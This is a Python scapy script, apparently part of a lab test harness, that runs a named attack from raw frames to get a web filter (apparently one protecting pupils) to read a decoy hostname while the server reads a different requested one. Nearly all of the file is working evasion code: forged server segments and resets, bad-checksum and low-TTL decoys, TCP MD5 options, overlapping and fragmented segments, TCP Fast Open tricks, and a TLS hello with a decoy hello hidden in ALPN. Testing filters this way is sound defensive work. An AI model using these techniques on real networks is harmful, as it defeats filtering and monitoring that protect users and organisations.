"""An attack in raw frames: ``python raw.py HOST ATTACK FAMILY PORT DECOY NAME``, as root on that host.

Opens a TCP connection to the address of DECOY that the kernel knows nothing of, and tries to have the server read a request
for NAME where a filter reads one for DECOY. Prints how many octets the server has answered.
"""

from __future__ import annotations

import secrets
import select
import ssl
import sys
import time
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

from forgotten import hidden
from plan import BOX, CLIENTS, ROUTER, address6_of, address_of
from scapy.all import (  # type: ignore[attr-defined]
    IP,
    TCP,
    Dot1Q,
    Ether,
    HBHOptUnknown,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    Raw,
    conf,
    fragment,
    fragment6,
)

PORTS: Final = (20_000, 29_999)
"""Of the attacks; the host's own kernel is to send no resets from them."""
PAUSED: Final = Path("/run/lab/tmp/paused")
"""What the attack ``forged SYN`` waits for."""
ESSENTIAL: Final = "cpoms.net"
"""Served to pupils even in a pause."""

FEW_HOPS = 2
MD5 = [(19, bytes(16))]
"""RFC 2385: a digest, which whoever has agreed on none discards."""
WIDE = 100_000
"""Octets: more than any window here."""


def request(web: int, name: str, path: str) -> bytes:
    """Return what a client begins with; the same octets but for name and path, and what is random in TLS."""
    if web == 80:
        return f"GET {path} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    connection = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    return outgoing.read()


class Connection:
    """One connection, and what its segments are to look like."""

    def __init__(self, host: str, attack: str, family: str, web: int, decoy: str) -> None:
        here = {h.name: h for h in (*CLIENTS, BOX)}[host]
        self.attack, self.web = attack, web
        self.link_filtered = here is not BOX
        self.ip = IP if family == "4" else IPv6
        self.ends = {
            "src": here.v4 if family == "4" else here.v6,
            "dst": str(address_of(decoy) if family == "4" else address6_of(decoy)),
        }
        self.backwards = {"src": self.ends["dst"], "dst": self.ends["src"]}
        self.port = PORTS[0] + secrets.randbelow(PORTS[1] - PORTS[0])
        # A tag of VLAN 0 is one that every host takes.
        tags = {"tag": Dot1Q(vlan=0), "two tags": Dot1Q(vlan=0) / Dot1Q(vlan=0)}
        self.ether = Ether(src=here.mac, dst=ROUTER.mac)
        self.frame = self.ether / tags[attack] if attack in tags else self.ether
        conf.verb = 0
        # The box's own frames go out behind its filter.
        self.link = conf.L2socket(iface="wan0" if here is BOX else "eth0")
        self.seq = 2**20 + secrets.randbelow(2**30)
        self.ack = 0
        self.ts, self.echo = 2**20, 0
        self.answer = b""

    def send(
        self,
        flags: str,
        data: bytes = b"",
        *,
        back: int = 0,
        late: int = 0,
        hops: int = 64,
        options: Any = (),
        between: Any = None,
        **fields: Any,
    ) -> None:
        """Send a segment that begins ``back`` octets before the place reached; that place stays."""
        ip = self.ip(**self.ends, **{"ttl" if self.ip is IP else "hlim": hops})
        whole = (ip / between if between else ip) / TCP(
            sport=self.port,
            dport=self.web,
            flags=flags,
            seq=(self.seq - back) % 2**32,
            ack=self.ack if "A" in flags else 0,
            window=64_000,
            options=[*options, ("Timestamp", (self.ts - late, self.echo))],
            **fields,
        )
        whole = whole / Raw(data)
        for part in self._cut(whole) if data and "fragments" in self.attack else [whole]:
            self.link.send(self.frame / part)

    def _cut(self, whole: Any) -> Any:
        # The TCP header and the first octets of the payload, then the rest.
        if self.ip is IP:
            parts = fragment(whole, fragsize=64)
        else:
            identified = IPv6ExtHdrFragment(id=self.seq, nh=6)
            parts = fragment6(IPv6(**self.ends) / identified / whole[TCP], 40 + 8 + 64)
        return parts[::-1] if "backwards" in self.attack else parts

    def push(self, data: bytes) -> None:
        """Send octets as an honest client does, and go on behind them."""
        self.ts += 1
        self.send("PA", data)
        self.seq += len(data)

    def insist(self, data: bytes) -> None:
        """Send the last octets until they are answered, as a kernel does with what may have been lost."""
        for _ in range(3):
            self.ts += 1
            self.send("PA", data)
            self.receive(0.5)
            if self.answer:
                return

    def receive(self, seconds: float) -> None:
        """Take what the server sends; stop at its SYN, or once it has answered and is silent."""
        end = time.monotonic() + seconds
        while select.select([self.link], [], [], max(0, end - time.monotonic()))[0]:
            frame = self.link.recv()
            if frame is None or TCP not in frame or frame[TCP].dport != self.port:
                continue
            tcp, ip = frame[TCP], frame[self.ip]
            whole = ip.len - 20 if self.ip is IP else ip.plen
            data = bytes(tcp.payload)[: whole - tcp.dataofs * 4]
            stamps = dict(o for o in tcp.options if len(o) == 2)
            self.echo = stamps.get("Timestamp", (self.echo, 0))[0]
            if "S" in tcp.flags:
                self.ack = tcp.seq + 1
                return
            if data and tcp.seq == self.ack:
                self.answer += data
                self.ack += len(data)
                self.send("A")

    def forge(self, flags: str) -> None:
        """Send a segment as if it were the server's."""
        tcp = TCP(
            sport=self.web,
            dport=self.port,
            flags=flags,
            seq=self.ack,
            ack=(self.seq + ("S" in flags)) % 2**32,
            window=64_000,
        )
        self.link.send(self.ether / self.ip(**self.backwards) / tcp)
        time.sleep(0.2)

    def connect(self, data: bytes = b"") -> None:
        self.send("S", data)
        self.receive(2)
        self.seq += 1
        self.ts += 10
        self.send("A")


def hello_around(name: str, decoy: str) -> tuple[bytes, bytes]:
    """Return a hello for ``name`` in two parts, of which the second one begins with a whole hello for ``decoy``."""
    inner = hidden(decoy)
    context = ssl.create_default_context()
    context.set_alpn_protocols(["http/1.1", inner.decode("ascii")])
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name).do_handshake()
    octets = outgoing.read()
    place = octets.index(inner)
    return octets[:place], octets[place:]


def closed_in_between(its: Connection, decoy: str, name: str) -> None:
    """Have the filter forget a connection of which the server goes on to know, and take its middle for its beginning."""
    while True:
        its.connect()
        # So that 0 is an old acknowledgement, which the server answers.
        if 2**20 < its.ack < 2**31 - 2**20:
            break
        its.send("R")
        its.port += 1
    first, second = hello_around(name, decoy)
    its.push(first)
    its.receive(0.3)
    if its.link_filtered:
        # Unreadable: dropped, and the filter has done with the flow.
        its.send("PAU", b"x", urgptr=1)
        time.sleep(0.3)
        # Conntrack lets it be closed by this one, which is dropped as well.
        its.send("R")
        time.sleep(0.3)
    # The server answers that it has a connection; conntrack takes that for an answer.
    its.send("S", back=1)
    time.sleep(0.8)
    # The server discards it, and conntrack takes the flow for closed.
    its.send("R", options=MD5)
    time.sleep(0.3)
    # What conntrack takes for plausible as it has seen no number of the server's, and the server answers as too old.
    ack, its.ack = its.ack, 0
    its.ts += 1
    its.send("PA", b"\0", back=1)
    its.ack = ack
    time.sleep(0.8)
    its.ts += 1
    its.insist(second)


def fast_opened_before(its: Connection, decoy: str, name: str) -> None:
    """Have the server take octets with a SYN, and the filter take its next answer to that for one to another SYN."""
    first, second = hello_around(name, decoy)
    its.send("S", first)
    its.receive(2)
    its.seq += 1 + len(first)
    if its.link_filtered:
        its.send("PAU", b"x", urgptr=1)
        time.sleep(0.2)
        its.send("R")
        time.sleep(0.2)
        # The server discards it, and soon says again that it has taken the first one.
        its.send("S", back=1, options=MD5)
        its.receive(3)
    its.ts += 10
    its.send("A")
    time.sleep(0.3)
    its.insist(second)


def attack(its: Connection, decoy: str, name: str) -> None:  # noqa: C901, PLR0912, PLR0915  # one an attack
    wrong, right = request(its.web, decoy, "/"), request(its.web, name, "/true")
    place = right.find(name.encode()) + len(name) // 2
    if its.attack == "forged answer":
        # The server drops a SYN with a digest. It begins with the second one, a wide way before the first.
        its.send("S", options=MD5)
        time.sleep(0.2)
        its.forge("SA")
        its.seq -= WIDE
    if its.attack == "closed in between":
        closed_in_between(its, decoy, name)
        return
    if its.attack == "fast opened before":
        fast_opened_before(its, decoy, name)
        return
    its.connect(wrong if its.attack == "octets in the SYN" else b"")
    match its.attack:
        case "old timestamp":
            its.send("PA", wrong, late=WIDE)
        case "digest":
            its.send("PA", wrong, options=MD5)
        case "acknowledges too much":
            its.ack -= WIDE
            its.send("PA", wrong)
            its.ack += WIDE
        case "second SYN":
            its.send("S", wrong, back=1)
        case "discarded on the way":
            unknown = HBHOptUnknown(otype=0x5E, optlen=4, optdata=b"abcd")
            its.send("PA", wrong, between=IPv6ExtHdrDestOpt(options=[unknown]))
        case "wrong checksum":
            its.send("PA", wrong, chksum=0x1234)
        case "out of the window":
            its.send("PA", wrong, back=-10 * WIDE)
        case "reset with a wrong checksum":
            its.send("R", chksum=0x1234)
            # In what both begin with there is no name.
            its.push(wrong[:30])
            its.seq -= 30
        case "reset out of the window":
            its.send("R", back=-10 * WIDE)
        case "overlap":
            # Linux takes what comes in order, and not what it has behind a hole.
            its.send("PA", wrong[20:], back=-20)
        case "overlap behind a hole":
            # Of what lies behind a hole it takes what came first.
            its.send("PA", right[20:], back=-20)
            its.send("PA", wrong[20:], back=-20)
            right = right[:20]
        case "first octet alone":
            its.push(right[:1])
            its.receive(0.5)
            right = right[1:]
        case "last octet alone":
            its.push(right[:-1])
            its.receive(0.5)
            right = right[-1:]
        case "upper case":
            right = right.replace(name.encode(), name.upper().encode())
        case "few hops before":
            its.send("PA", wrong, hops=FEW_HOPS)
        case "few hops between":
            its.send("PA", right[:place])
            its.send("PA", wrong, hops=FEW_HOPS)
        case "few hops behind":
            its.send("PA", right[place:], back=-place)
            its.send("PA", wrong, hops=FEW_HOPS)
        case "forged SYN":
            its.push(wrong)
            its.receive(1)
            its.answer = b""
            print("ready", flush=True)
            while not PAUSED.exists():
                time.sleep(0.1)
            other = request(its.web, ESSENTIAL, "/")
            its.send("S", back=len(other) + 1)
            time.sleep(0.2)
            its.send("PA", other, back=len(other))
            time.sleep(0.2)
        case "ports of before":
            its.push(wrong)
            its.receive(1)
            its.answer = b""
            its.send("RA")
            time.sleep(0.2)
            its.forge("RA")
            its.seq += WIDE
            its.connect()
    time.sleep(0.2)
    its.insist(right)


def main() -> None:
    host, which, family, web, decoy, name = sys.argv[1:]
    its = Connection(host, which, family, int(web), decoy)
    attack(its, decoy, name)
    print(len(its.answer))


if __name__ == "__main__":
    main()
